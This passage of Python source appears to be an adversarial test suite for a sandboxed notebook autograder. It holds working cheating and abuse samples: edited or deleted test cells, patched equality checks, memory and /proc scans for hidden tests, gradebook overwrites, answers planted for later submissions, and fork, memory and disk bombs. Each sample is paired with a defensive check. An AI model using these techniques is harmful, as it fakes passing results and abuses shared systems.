
    def check(evidence: Evidence, course: Course) -> list[str]:
        if "left two processes behind" not in evidence.text():
            return ["the probe did not report that it started its processes"]
        sightings = [seen for seen in evidence.daemon_sightings if marker[:15] in seen[2]]
        if not sightings:
            return []  # started, and gone before the suite's next look
        last = max(when for when, _, _ in sightings)
        if evidence.graded_at is None:
            return ["no ledger record"]
        if last > evidence.graded_at + 2.0:
            pids = sorted({pid for when, pid, _ in sightings if when > evidence.graded_at + 2.0})
            return [f"processes {pids} were alive {last - evidence.graded_at:.0f} s after the submission was graded"]
        return []

    return check


def tmpfs_bounded(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("TMPFS")
    if report is None:
        return ["the probe printed no report"]
    return [
        f"wrote {written >> 20} MiB into {where} (memory), beyond the child's 2 GiB memory limit"
        for where, (written, _) in report.items()
        if written > 2 << 30
    ]


# --------------------------------------------------------------------------------------------------------------
# The vectors
# --------------------------------------------------------------------------------------------------------------

RUNNER_OK = ("ok", "flagged")  # code that fooled nothing and earned nothing may pass unnoticed

VECTORS: list[Vector] = [
    Vector(
        1,
        "01",
        "visible_tests_edited",
        "every test cell edited to print that it passes",
        visible_tests_edited,
        reason="was edited",
    ),
    Vector(
        2,
        "02a",
        "test_cell_deleted",
        "a partly wrong answer; its failing hidden test cell deleted",
        test_cell_deleted,
        deserved="flag_tables_as_hook_tables",
        reason="was deleted",
    ),
    Vector(
        2,
        "02b",
        "all_test_cells_deleted",
        "no answer; every graded test cell deleted",
        all_test_cells_deleted,
        reason="was deleted",
    ),
    Vector(
        2,
        "02c",
        "test_cells_unmarked",
        "no answer; test cells stripped of nbgrader metadata and edited to pass",
        test_cell_unmarked,
        reason="was deleted",
    ),
    Vector(
        3,
        "03a",
        "test_cells_duplicated",
        "no answer; a passing copy of each test cell before the original",
        test_cell_duplicated,
        kinds=("flagged", "error"),
        reason=("appears 2 times", "duplicate grade id"),
    ),
    Vector(
        3,
        "03b",
        "test_cell_split",
        "a partly wrong answer; the failing hidden test cell split in two",
        test_cell_split,
        deserved="flag_tables_as_hook_tables",
        kinds=("flagged", "error"),
        reason=("appears 2 times", "duplicate grade id"),
    ),
    Vector(
        4,
        "04a",
        "points_inflated",
        "a partly right answer; every test cell claims 100x its points",
        more_points,
        deserved="copy_with_copy_copy",
        reason="points",
    ),
    Vector(
        4,
        "04b",
        "grade_flag_off",
        "no answer; test cells set grade=false and edited to pass",
        metadata_edit(lambda meta, c: meta.update(grade=False)),
        kinds=("flagged", "error"),
        reason=("changed (grade", "inconsistent checksums"),
    ),
    Vector(
        4,
        "04c",
        "tests_made_solution",
        "no answer; test cells set solution=true (kept as typed) and edited",
        metadata_edit(lambda meta, c: meta.update(solution=True)),
        kinds=("flagged", "error"),
        reason=("solution", "inconsistent checksums"),
    ),
    Vector(
        4,
        "04d",
        "grade_id_renamed",
        "no answer; test cells renamed and edited to pass",
        metadata_edit(lambda meta, c: meta.update(grade_id=meta["grade_id"] + "_mine")),
        kinds=("flagged", "error"),
        reason=("not in the released", "metadata may be corrupted"),
    ),
    Vector(
        4,
        "04e",
        "unlocked",
        "no answer; test cells unlocked and edited to pass",
        metadata_edit(lambda meta, c: meta.update(locked=False)),
        reason="locked",
    ),
    Vector(
        4,
        "04f",
        "checksum_forged",
        "no answer; test cells edited, checksums replaced",
        metadata_edit(lambda meta, c: meta.update(checksum="0" * 32)),
        reason="checksum",
    ),
    Vector(
        4,
        "04g",
        "schema_version",
        "no answer; test cells edited, nbgrader schema version 1",
        metadata_edit(lambda meta, c: meta.update(schema_version=1)),
        kinds=("flagged", "error"),
        reason=("schema_version", "old version of the nbgrader metadata"),
    ),
    Vector(
        4,
        "04h",
        "extra_graded_cell",
        "a full answer plus a graded cell of its own, worth 100 points, that passes",
        extra_graded_cell,
        deserved="full",
        kinds=("flagged", "error"),
        reason=("test_bonus", "metadata may be corrupted"),
    ),
    Vector(
        5,
        "05a",
        "torch_equal",
        "copies compute wrong outputs; torch.equal patched to always say equal",
        broken_copy(PATCH_TORCH_EQUAL),
        deserved=WRONG_OUTPUTS,
        reason="trusted check",
    ),
    Vector(
        5,
        "05b",
        "torch_allclose",
        "copies compute wrong outputs; allclose/assert_close patched to pass",
        broken_copy(PATCH_ALLCLOSE),
        deserved=WRONG_OUTPUTS,
        kinds=RUNNER_OK,
    ),
    Vector(
        5,
        "05c",
        "isinstance",
        "no answer; builtins.isinstance patched to always say True",
        lambda ctx: with_code(ctx, PATCH_ISINSTANCE),
        kinds=("ok", "flagged", "error"),
    ),
    Vector(
        5,
        "05d",
        "cell_runner_patched",
        "no answer; the grader's cell runner patched to drop error outputs",
        lambda ctx: with_code(ctx, PATCH_CELL_RUNNER),
        reason="trusted check",
    ),
    Vector(
        5,
        "05e",
        "forged_replies",
        "no answer; success replies for every later cell written on the socket",
        lambda ctx: with_code(ctx, FORGED_REPLIES),
        kinds=("flagged", "error"),
        reason="trusted check",
    ),
    Vector(
        5,
        "05f",
        "nested_observations",
        "no answer; the cell runner patched (tests pass), the trusted check's reply JSON nested 100k deep",
        lambda ctx: with_code(ctx, PATCH_CELL_RUNNER + NESTED_OBSERVATIONS),
        kinds=("flagged", "error"),
        reason=("trusted check", "RecursionError"),
    ),
    Vector(
        6,
        "06a",
        "always_equal",
        "classify_slots returns objects equal to anything; type() patched to hide them",
        liar("always_equal"),
        reason="trusted check",
    ),
    Vector(
        6,
        "06b",
        "lying_str",
        "classify_slots returns a str subclass equal to anything; type() lies",
        liar("str_subclass"),
        deserved=EVERYTHING_OTHER,
        reason="trusted check",
    ),
    Vector(
        6,
        "06c",
        "lying_dict",
        "classify_slots returns a dict subclass equal to anything; type() lies",
        liar("dict_subclass"),
        deserved=EVERYTHING_OTHER,
        reason="trusted check",
    ),
    Vector(
        7,
        "07a",
        "ast_transformer",
        "no answer; an AST transformer removes asserts and swallows every error",
        lambda ctx: with_code(ctx, AST_TRANSFORMER),
        reason="trusted check",
    ),
    Vector(
        7,
        "07b",
        "input_transformer",
        "no answer; an input transformer turns every later cell into `pass`",
        lambda ctx: with_code(ctx, INPUT_TRANSFORMER),
        reason="trusted check",
    ),
    Vector(
        8,
        "08a",
        "showtraceback",
        "no answer; showtraceback replaced by a no-op",
        lambda ctx: with_code(ctx, SHOWTRACEBACK),
        kinds=RUNNER_OK,
    ),
    Vector(
        8,
        "08b",
        "excepthook",
        "no answer; sys.excepthook replaced by a no-op",
        lambda ctx: with_code(ctx, EXCEPTHOOK),
        kinds=RUNNER_OK,
    ),
    Vector(
        8,
        "08c",
        "errors_swallowed",
        "no answer; run_cell's result cleared of errors, tracebacks hidden",
        lambda ctx: with_code(ctx, SWALLOWED_ERRORS),
        reason="trusted check",
    ),
    Vector(
        9,
        "09a",
        "sys_exit",
        "no answer; sys.exit() in the first answer cell",
        lambda ctx: with_code(ctx, "import sys\nsys.exit(0)"),
        kinds=("ok", "error"),
    ),
    Vector(
        9,
        "09b",
        "os_exit",
        "no answer; os._exit(0) in the first answer cell",
        lambda ctx: with_code(ctx, "import os\nos._exit(0)"),
        kinds=("error",),
        reason="exited with status 0",
    ),
    Vector(
        9,
        "09c",
        "raise_systemexit",
        "no answer; raise SystemExit",
        lambda ctx: with_code(ctx, "raise SystemExit(0)"),
        kinds=("ok", "error"),
    ),
    Vector(
        9,
        "09d",
        "keyboard_interrupt",
        "no answer; raise KeyboardInterrupt",
        lambda ctx: with_code(ctx, "raise KeyboardInterrupt"),
        kinds=("ok", "error"),
    ),
    Vector(
        9,
        "09e",
        "segfault",
        "no answer; ctypes.string_at(0)",
        lambda ctx: with_code(ctx, "import ctypes\nctypes.string_at(0)"),
        kinds=("error",),
        reason="segmentation fault",
    ),
    Vector(
        10,
        "10a",
        "infinite_loop",
        "no answer; while True: pass",
        lambda ctx: with_code(ctx, "while True:\n    pass"),
        kinds=("error",),
        reason="time limit",
    ),
    Vector(
        10,
        "10b",
        "sleep_forever",
        "no answer; time.sleep(1e9)",
        lambda ctx: with_code(ctx, "import time\ntime.sleep(1e9)"),
        kinds=("error",),
        reason="time limit",
    ),
    Vector(
        11,
        "11a",
        "memory_bomb",
        "no answer; bytearrays of 64 MiB until memory runs out",
        lambda ctx: with_code(ctx, MEMORY_BOMB),
        kinds=("ok", "error"),
    ),
    Vector(
        11,
        "11b",
        "tmpfs_bomb",
        "no answer; 2.8 GiB of files written into the sandbox's /tmp",
        lambda ctx: with_code(ctx, TMPFS_BOMB),
        kinds=("ok", "error"),
        check=tmpfs_bounded,
    ),
    Vector(
        12,
        "12a",
        "line_flood",
        "no answer; 10 million lines printed",
        lambda ctx: with_code(ctx, LINE_FLOOD),
        kinds=("ok",),
    ),
    Vector(
        12,
        "12b",
        "image_flood",
        "no answer; a 48 MiB image and 24 MB of HTML displayed",
        lambda ctx: with_code(ctx, IMAGE_FLOOD),
        kinds=("ok",),
    ),
    Vector(
        12,
        "12c",
        "deep_output",
        "no answer; the cell runner patched (tests pass); a display output nested 900 deep",
        lambda ctx: with_code(ctx, PATCH_CELL_RUNNER + DEEP_OUTPUT),
        kinds=("flagged", "error"),
    ),
    Vector(
        13,
        "13a",
        "fork_bomb",
        "no answer; every process forks forever",
        lambda ctx: with_code(ctx, FORK_BOMB),
        kinds=("error",),
        reason="time limit",
    ),
    Vector(
        13,
        "13b",
        "background_process",
        "no answer; a daemon and a double-forked process meant to outlive it",
        lambda ctx: with_code(ctx, BACKGROUND),
        kinds=("ok",),
        check=nothing_outlived(DAEMON_MARKER),
    ),
    Vector(
        14,
        "14a",
        "read_known_paths",
        "reads the solution, gradebook, other submissions by every known path",
        probe(PROBE_TOOLS, READ_KNOWN_PATHS),
        kinds=("ok",),
        check=nothing_secret("READ"),
    ),
    Vector(
        14,
        "14b",
        "search_disk",
        "walks / (and /proc/1/root) for notebooks and gradebooks, steals what it finds",
        probe(PROBE_TOOLS, SEARCH_DISK),
        kinds=("ok",),
        check=nothing_secret("SEARCH"),
    ),
    Vector(
        15,
        "15",
        "network",
        "TCP, UDP, DNS, HTTP and the host's abstract unix sockets",
        probe(NETWORK),
        kinds=("ok",),
        check=no_connection,
    ),
    Vector(
        16,
        "16a",
        "write_gradebook",
        "sets every manual score to 1000, rewrites grading ledgers",
        probe(PROBE_TOOLS, WRITE_GRADEBOOK),
        kinds=("ok",),
        check=nothing_written,
    ),
    Vector(
        16,
        "16b",
        "write_neighbours",
        "writes into other students' folders, on the host and in the sandbox",
        probe(PROBE_TOOLS, WRITE_NEIGHBOURS),
        kinds=("ok",),
        check=nothing_written,
    ),
    Vector(
        16,
        "16c",
        "squat_scratch",
        "creates the scratch folders the next children will be given",
        lambda ctx: with_code(ctx, SQUAT_SCRATCH),
        kinds=("ok",),
    ),
    Vector(
        17,
        "17a",
        "invalid_json",
        "half a notebook",
        invalid_json,
        deserved="full",
        kinds=("error",),
        reason="not valid JSON",
    ),
    Vector(
        17,
        "17b",
        "nbformat3",
        "a full answer saved as nbformat 3",
        nbformat3,
        deserved="full",
        kinds=("error",),
        reason="nbformat 3",
    ),
    Vector(17, "17c", "empty_file", "an empty file", empty_file, kinds=("error",), reason="empty"),
    Vector(17, "17d", "binary_file", "bytes that are not text", binary_file, kinds=("error",), reason="UTF-8"),
    Vector(
        17,
        "17e",
        "huge_sparse",
        "a full answer followed by 200 MB of NUL bytes",
        huge_sparse,
        deserved="full",
        kinds=("error",),
        reason=("JSON", "more than 64 MiB"),
    ),
    Vector(
        17,
        "17f",
        "huge_valid",
        "a full answer made 200 MB by trailing whitespace",
        huge_valid,
        deserved="full",
        kinds=("ok", "error"),
    ),
    Vector(
        17,
        "17g",
        "missing_notebook",
        "a .py file instead of the notebook",
        missing_notebook,
        kinds=("error",),
        reason="is missing",
    ),
    Vector(
        17,
        "17h",
        "renamed_notebook",
        "a full answer saved as 'ex01_slots (1).ipynb'",
        renamed_notebook,
        deserved="full",
        kinds=("error",),
        reason="is missing",
    ),
    Vector(
        17,
        "17i",
        "extra_files",
        "a full answer beside extra notebooks, files and folders",
        extra_files,
        deserved="full",
        kinds=("ok",),
    ),
    Vector(
        17,
        "17j",
        "symlinked_solution",
        "the notebook is a symlink to the instructor's solution",
        symlinked_solution,
        kinds=("error", "flagged"),
    ),
]

# --------------------------------------------------------------------------------------------------------------
# 18-22: the sandbox, round two: the warm server's memory, what outlives a child, limits with gaps, one child's
# death; planted by one child and harvested by a later one where that is the point
# --------------------------------------------------------------------------------------------------------------

# Every secret found anywhere in the child's own memory (what it inherited from the warm server included), and in
# what the shell keeps, before any hidden test has run. The probe holds each secret as two halves, never whole, so
# that finding one is never finding itself.
SCAN_MEMORY = """
_report = {"regions": 0, "bytes": 0, "secret": [], "shell": []}
_HALVES = [(_a[::-1], _b[::-1]) for _a, _b in _REVERSED_HALVES]
def _has(data, first, second):
    at = data.find(first)
    while at >= 0:
        if data[at + len(first): at + len(first) + len(second)] == second:
            return True
        at = data.find(first, at + 1)
    return False
_wanted = [(_a.encode(), _b.encode()) for _a, _b in _HALVES]
import ctypes as _ctypes
with open("/proc/self/maps") as _maps:
    _regions = [_line.split() for _line in _maps]
for _fields in _regions:
    _name = _fields[5] if len(_fields) > 5 else ""
    if "r" not in _fields[1] or (_name and not _name.startswith("[")) or _name.startswith("[v"):
        continue  # the files mapped are the installed packages: the course's text is none of them
    _start, _end = (int(_x, 16) for _x in _fields[0].split("-"))
    for _at in range(_start, _end, 32 << 20):
        _data = _ctypes.string_at(_at, min(_end - _at, (32 << 20) + 4096))
        _report["bytes"] += len(_data)
        _report["secret"] += [[_fields[0], len(_a)] for _a, _b in _wanted if _has(_data, _a, _b)]
        del _data
    _report["regions"] += 1
_shell = get_ipython()
for _name, _value in list(vars(_shell).items()) + list(vars(type(_shell)).items()):
    _text = repr(_value)[: 1 << 22]
    if any(_has(_text, _a, _b) for _a, _b in _HALVES):
        _report["shell"].append(_name)
_report["secret"] = _report["secret"][:20]
print("INTEGRITY-MEMORY " + _json.dumps(_report))
"""


def scan_memory(ctx: Context) -> None:
    halves = [(secret[: len(secret) // 2][::-1], secret[len(secret) // 2 :][::-1]) for secret in ctx.course.secrets]
    with_code(ctx, f"import json as _json\nimport os as _os\n_REVERSED_HALVES = {halves!r}\n" + SCAN_MEMORY)


# The hidden tests anywhere a process's environment or command line could carry them, its own and every one it sees.
SCAN_ENVIRONMENT = """
_report = {"looked": 0, "secret": []}
_texts = {"os.environ": repr(dict(_os.environ))}
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    for _what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _texts[f"/proc/{_pid}/{_what}"] = _f.read().decode(errors="replace")
        except OSError:
            pass
for _where, _text in _texts.items():
    _report["looked"] += 1
    if any(_secret in _text for _secret in _SECRETS):
        _report["secret"].append(_where)
print("INTEGRITY-ENV " + _json.dumps(_report))
"""

# SysV shared memory made, filled and let go of, again and again: memory held outside every process.
SYSV_HOG = """
import ctypes as _ctypes
import json as _json
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_held, _refused = 0, ""
for _n in range(40):
    _id = _libc.shmget(0, _ctypes.c_size_t(60 << 20), 0o1000 | 0o600)
    if _id < 0:
        _refused = _os.strerror(_ctypes.get_errno())
        break
    _address = _libc.shmat(_id, None, 0)
    if _address in (None, _ctypes.c_void_p(-1).value):
        _refused = _os.strerror(_ctypes.get_errno())
        break
    _ctypes.memset(_address, 1, 60 << 20)
    _libc.shmdt(_ctypes.c_void_p(_address))
    _held += 60 << 20
print("INTEGRITY-SYSV " + _json.dumps({"held": _held, "refused": _refused}))
"""

STOP_ITSELF = """
import os as _os
import signal as _signal
_os.kill(_os.getpid(), _signal.SIGSTOP)
"""


def sysv_bounded(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("SYSV")
    if report is None:
        return ["the probe printed no report"]
    return [f"held {report['held'] >> 20} MiB of SysV shared memory"] if report["held"] > 128 << 20 else []


# The channels one child could leave its answers in for a later one, if anything of it outlived it.
IPC_TOOLS = """
import ctypes as _ctypes
import socket as _socket
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_KEY, _SIZE = 0x1D7E61, 1 << 16
_FILES = ["/tmp/integrity-answers.py", "/dev/shm/integrity-answers.py", "/scratch/home/integrity-answers.py"]
_ABSTRACT = "\\0integrity-answers"
"""
PLANT = """
_answers = _ANSWERS
_report = {"planted": []}
_id = _libc.shmget(_KEY, _SIZE, 0o1000 | 0o666)
if _id >= 0:
    _address = _libc.shmat(_id, None, 0)
    _ctypes.memmove(_address, _answers.encode() + b"\\0", len(_answers) + 1)
    _report["planted"].append("sysv shm")
for _path in _FILES:
    try:
        with open(_path, "w") as _f:
            _f.write(_answers)
        _os.chmod(_path, 0o666)
        _report["planted"].append(_path)
    except OSError:
        pass
if _os.fork() == 0:  # a server on an abstract unix socket, left behind to hand the answers to whoever asks
    try:
        _server = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _server.bind(_ABSTRACT)
        _server.listen(8)
        _os.setsid()
        while True:
            _peer, _ = _server.accept()
            _peer.sendall(_answers.encode())
            _peer.close()
    finally:
        _os._exit(0)
_report["planted"].append("abstract socket")
print("INTEGRITY-PLANT " + _json.dumps(_report))
"""
# Runs what a harvester found, and notes where it was found.
USE = """
def _use(where, code):
    try:
        exec(code, globals())
        _report["found"].append(where)
    except Exception:
        pass
"""
HARVEST = (
    """
_report = {"found": []}
"""
    + USE
    + """_id = _libc.shmget(_KEY, 0, 0)
if _id >= 0:
    _address = _libc.shmat(_id, None, 0o10000)
    if _address not in (None, _ctypes.c_void_p(-1).value):
        _use("sysv shm", _ctypes.string_at(_address).decode(errors="replace"))
for _path in _FILES:
    try:
        with open(_path) as _f:
            _use(_path, _f.read())
    except OSError:
        pass
for _attempt in range(20):  # the planter may be graded at the same time, on the other worker
    try:
        _client = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _client.connect(_ABSTRACT)
        _use("abstract socket", _client.recv(1 << 20).decode(errors="replace"))
        break
    except OSError:
        import time as _time
        _time.sleep(0.25)
print("INTEGRITY-HARVEST " + _json.dumps(_report))
"""
)


def plant(ctx: Context) -> None:
    """A full answer that also leaves its answers in every channel a later child might read."""
    answers = "\n\n".join(ctx.course.solution.values())
    code = constants(ctx) + "import json as _json\nimport os as _os\n" + IPC_TOOLS
    code += f"_ANSWERS = {answers!r}\n" + PLANT
    with_code(ctx, code, answers=ctx.course.solution)


# Processes that fork a successor and exit, over and over: a sweep by pid or uid is always one step behind.
HOPPERS = f"""
import ctypes as _ctypes
import os as _os
import time as _time
def _hop():
    _ctypes.CDLL(None).prctl(15, b"{HOPPER_MARKER[:15]}", 0, 0, 0)
    while True:
        if _os.fork():
            _os._exit(0)
        _time.sleep(0.01)
for _n in range(3):
    if _os.fork() == 0:
        _os.setsid()
        _hop()
print("left two processes behind")
"""

DISK_FLOOD = """
import json as _json
import os as _os
_report = {"bytes": 0, "files": 0, "errors": []}
for _n in range(16):
    try:
        with open(f"/dev/shm/integrity-fill-{_n}", "wb") as _f:
            for _ in range(64):
                _f.write(b"x" * (1 << 20))
                _report["bytes"] += 1 << 20
    except OSError as _e:
        _report["errors"].append(type(_e).__name__)
        break
for _n in range(30_000):
    try:
        open(f"integrity-empty-{_n}", "w").close()
        _report["files"] += 1
    except OSError as _e:
        _report["errors"].append(type(_e).__name__)
        break
print("INTEGRITY-DISK " + _json.dumps(_report))
"""

DISPLAY_FLOOD = """
from IPython.display import display as _display
for _ in range(250_000):
    _display({}, raw=True)
"""

HUGE_EXCEPTION = """
raise RuntimeError("x" * (12 << 20))
"""

DRIP_REPLY = """
import os as _os, stat as _stat, struct as _struct, time as _time
for _fd in range(3, 64):
    try:
        if _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
            for _byte in _struct.pack("!I", 100) + b"[" * 100:
                _os.write(_fd, bytes([_byte]))
                _time.sleep(2)
    except OSError:
        pass
"""

REAL_TIME_SIGNAL = """
import os as _os
import signal as _signal
_os.kill(_os.getpid(), _signal.SIGRTMIN + 3)
"""

# Outputs a kernel can send but the notebook format rejects: a JSON value under a non-JSON MIME type, and a MIME
# type with no slash. The answers are right: the odd outputs must cost nothing.
ODD_OUTPUTS = """
from IPython.display import publish_display_data as _publish
_publish({"application/x-integrity": {"nested": [1, 2]}, "text/plain": "odd"})
_publish({"weird": "no slash", "text/plain": "odder"})
"""


def memory_clean(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("MEMORY")
    if report is None:
        return ["the probe printed no report"]
    problems = [] if report["bytes"] > 1 << 20 else [f"only {report['bytes']} bytes of memory were searched"]
    problems += [f"a secret in its memory at {where}" for where, _ in report["secret"]]
    return problems + [f"a secret in the shell's {name}" for name in report["shell"]]


def planted(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("PLANT")
    return [] if report and len(report["planted"]) >= 4 else [f"the planter could not plant everything: {report}"]


def nothing_harvested(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("HARVEST")
    if report is None:
        return ["the probe printed no report"]
    return [f"found the planter's answers in {where}" for where in report["found"]]


def environment_clean(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("ENV")
    if report is None:
        return ["the probe printed no report"]
    return [f"a secret in {where}" for where in report["secret"]]


def disk_bounded(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("DISK")
    if report is None:
        return ["the probe printed no report"]
    problems = [f"wrote {report['bytes'] >> 20} MiB"] if report["bytes"] > 300 << 20 else []
    return problems + ([f"made {report['files']} files"] if report["files"] > 11_000 else [])


def outputs_bounded(evidence: Evidence, course: Course) -> list[str]:
    if evidence.notebook is None:
        return ["no autograded notebook"]
    size = len(json.dumps(evidence.notebook))
    counts = [len(c.get("outputs", [])) for c in evidence.notebook.cells if c.cell_type == "code"]
    problems = [f"the autograded notebook is {size >> 20} MiB"] if size > 12 << 20 else []
    return problems + ([f"a cell kept {max(counts)} outputs"] if max(counts) > 502 else [])


VECTORS += [
    Vector(
        18,
        "18a",
        "scan_memory",
        "searches its whole memory, and the shell, for the hidden tests before they run",
        scan_memory,
        kinds=("ok",),
        check=memory_clean,
    ),
    Vector(
        18,
        "18b",
        "scan_environment",
        "searches the environment and the command line of every process it can see for the hidden tests",
        probe("import json as _json\nimport os as _os\n", SCAN_ENVIRONMENT),
        kinds=("ok",),
        check=environment_clean,
    ),
    Vector(
        19,
        "19a",
        "plant_answers",
        "a full answer that leaves it in SysV shm, /dev/shm, its home, /tmp if it can and an abstract socket's server",
        plant,
        deserved="full",
        kinds=("ok",),
        check=planted,
    ),
    Vector(
        19,
        "19b",
        "harvest_answers",
        "a blank answer that runs whatever a planter left in any channel",
        probe("import json as _json\nimport os as _os\n", IPC_TOOLS, HARVEST),
        kinds=("ok",),
        check=nothing_harvested,
    ),
    Vector(
        19,
        "19c",
        "sysv_hog",
        "fills 40 SysV shared memory segments of 60 MiB and detaches each, holding memory outside any process",
        lambda ctx: with_code(ctx, "import os as _os\n" + SYSV_HOG),
        kinds=("ok",),
        check=sysv_bounded,
    ),
    Vector(
        20,
        "20a",
        "hoppers",
        "processes that fork a successor and exit, forever",
        lambda ctx: with_code(ctx, HOPPERS),
        kinds=("ok",),
        check=nothing_outlived(HOPPER_MARKER),
    ),
    Vector(
        21,
        "21a",
        "disk_flood",
        "1 GiB in 16 files, then 30,000 empty files",
        lambda ctx: with_code(ctx, DISK_FLOOD),
        kinds=("ok",),
        check=disk_bounded,
    ),
    Vector(
        21,
        "21b",
        "display_flood",
        "250,000 empty display() outputs in one cell, beside a full answer",
        lambda ctx: with_code(ctx, DISPLAY_FLOOD, answers=ctx.course.solution),
        deserved="full",
        kinds=("ok",),
        check=outputs_bounded,
    ),
    Vector(
        21,
        "21c",
        "huge_exception",
        "an exception with a 12 MiB message",
        lambda ctx: with_code(ctx, HUGE_EXCEPTION),
        kinds=("ok",),
        check=outputs_bounded,
    ),
    Vector(
        21,
        "21d",
        "drip_reply",
        "sends its own reply a byte every 2 s, to hold its worker past the cell limit",
        lambda ctx: with_code(ctx, DRIP_REPLY),
        kinds=("error",),
        reason="time limit",
    ),
    Vector(
        22,
        "22a",
        "real_time_signal",
        "kills itself with a real-time signal",
        lambda ctx: with_code(ctx, REAL_TIME_SIGNAL),
        kinds=("error",),
        reason="killed by signal",
    ),
    Vector(
        22,
        "22b",
        "stops_itself",
        "stops itself with SIGSTOP",
        lambda ctx: with_code(ctx, STOP_ITSELF),
        kinds=("error",),
        reason="time limit",
    ),
    Vector(
        22,
        "22c",
        "odd_outputs",
        "a full answer that displays outputs the notebook format rejects",
        lambda ctx: with_code(ctx, ODD_OUTPUTS, answers=ctx.course.solution),
        deserved="full",
        kinds=("ok",),
    ),
]


# --------------------------------------------------------------------------------------------------------------
# 23: the surfaces, round two: files beside the notebook, links in place of folders, outputs spread over many cells;
# and the hidden tests read from the frames that call the student's code
# --------------------------------------------------------------------------------------------------------------

# The functions are right; each also keeps the source of whatever called it (the hidden tests, when they run), and
# a cell added at the end prints it, so that it would reach the student's own feedback.
STEAL_BY_FRAMES = """
import linecache as _linecache
import sys as _sys

_stolen = {}


def _steal():
    frame = _sys._getframe(2)
    while frame is not None:
        text = "".join(_linecache.getlines(frame.f_code.co_filename))
        if "HIDDEN" in text:
            _stolen[frame.f_code.co_filename] = text
        frame = frame.f_back


_honest_classify, _honest_copy = classify_slots, copy_sharing_parameters


def classify_slots(module):
    _steal()
    return _honest_classify(module)


def copy_sharing_parameters(module):
    _steal()
    return _honest_copy(module)
"""


def steal_by_frames(ctx: Context) -> None:
    answers = dict(ctx.course.solution)
    answers["copy_sharing_parameters"] += "\n" + STEAL_BY_FRAMES
    nb = notebook(ctx, answers)
    nb.cells.append(nbformat.v4.new_code_cell("print('STOLEN', *_stolen.values())"))
    save(ctx, nb)


def beside(files: dict[str, bytes]) -> Callable[[Context], None]:
    """A full answer, with these files beside it in the submission folder."""

    def build(ctx: Context) -> None:
        nb = notebook(ctx, ctx.course.solution)
        nb.cells.append(nbformat.v4.new_markdown_cell("See [my derivation](derivation.html)."))
        save(ctx, nb)
        for name, data in files.items():
            (ctx.folder / name).write_bytes(data)

    return build


def named_pipe(ctx: Context) -> None:
    save(ctx, notebook(ctx, ctx.course.solution))
    os.mkfifo(ctx.folder / "pipe")


def sparse_gigabyte(ctx: Context) -> None:
    save(ctx, notebook(ctx, ctx.course.solution))
    with open(ctx.folder / "data.bin", "wb") as handle:
        handle.truncate(1 << 30)


def linked_folder(ctx: Context) -> None:
    """The submission folder is a link to the honest 'full' student's."""
    ctx.folder.rmdir()
    ctx.folder.symlink_to(ctx.folder.parent.parent / "full" / ASSIGNMENT)


def many_cells(code: str, count: int) -> Callable[[Context], None]:
    def build(ctx: Context) -> None:
        nb = notebook(ctx, ctx.course.solution)
        nb.cells += [nbformat.v4.new_code_cell(code) for _ in range(count)]
        save(ctx, nb)

    return build


PICTURE_8MB = "from IPython.display import display as _d\n_d({'image/png': 'A' * 8_000_000}, raw=True)"
DENSE_HTML = "from IPython.display import display as _d\n_d({'text/html': '<b>x</b><i>y</i>' * (1 << 18)}, raw=True)"


def nothing_stolen(evidence: Evidence, course: Course) -> list[str]:
    if evidence.notebook is None:
        return ["no autograded notebook"]
    shown = json.dumps([cell.get("outputs", []) for cell in evidence.notebook.cells if cell.cell_type == "code"])
    return [f"the hidden tests' {secret[:40]!r} is in the outputs" for secret in course.secrets if secret in shown]


def only_notebooks_graded(evidence: Evidence, course: Course) -> list[str]:
    found = [p for p in evidence.root.rglob("*") if "autograded" in p.parts or "submitted" in p.parts]
    others = sorted({p.name for p in found if not p.is_dir() and p.suffix != ".ipynb" and p.name != ".timestamp"})
    return [f"{name} was taken in beside the notebooks" for name in others if name != "timestamp.txt"]


def notebook_bounded(evidence: Evidence, course: Course) -> list[str]:
    if evidence.notebook is None:
        return ["no autograded notebook"]
    size = len(json.dumps(evidence.notebook))
    return [f"the autograded notebook is {size >> 20} MiB"] if size > 40 << 20 else []


def html_shown_as_note(evidence: Evidence, course: Course) -> list[str]:
    if evidence.notebook is None:
        return ["no autograded notebook"]
    kept = [
        output
        for cell in evidence.notebook.cells
        for output in cell.get("outputs", [])
        if len(str(output.get("data", {}).get("text/html", ""))) > 1 << 20
    ]
    return [f"{len(kept)} HTML output(s) of over 1 MiB kept"] if kept else []


VECTORS += [
    Vector(
        18,
        "18c",
        "steal_by_frames",
        "right answers that keep the source of the frames calling them, printed by a cell added at the end",
        steal_by_frames,
        deserved="full",
        kinds=("ok",),
        check=nothing_stolen,
    ),
    Vector(
        23,
        "23a",
        "page_beside",
        "a full answer, a page with a script beside it and a markdown link to the page",
        beside({"derivation.html": b"<script>document.title = 'INTEGRITY'</script>", "plot.svg": b"<svg/>"}),
        deserved="full",
        kinds=("ok",),
        check=only_notebooks_graded,
    ),
    Vector(
        23,
        "23b",
        "named_pipe",
        "a full answer beside a named pipe",
        named_pipe,
        deserved="full",
        kinds=("ok",),
    ),
    Vector(
        23,
        "23c",
        "sparse_gigabyte",
        "a full answer beside a 1 GiB sparse file",
        sparse_gigabyte,
        deserved="full",
        kinds=("ok",),
        check=only_notebooks_graded,
    ),
    Vector(
        23,
        "23d",
        "linked_folder",
        "the submission folder is a link to an honest student's",
        linked_folder,
        kinds=("error",),
        reason="symbolic link",
    ),
    Vector(
        23,
        "23e",
        "outputs_over_cells",
        "a full answer and 40 added cells of 8 MB each, under every per-cell limit",
        many_cells(PICTURE_8MB, 40),
        deserved="full",
        kinds=("ok",),
        check=notebook_bounded,
    ),
    Vector(
        23,
        "23f",
        "dense_html",
        "a full answer and 4 MiB of dense HTML, slow to clean",
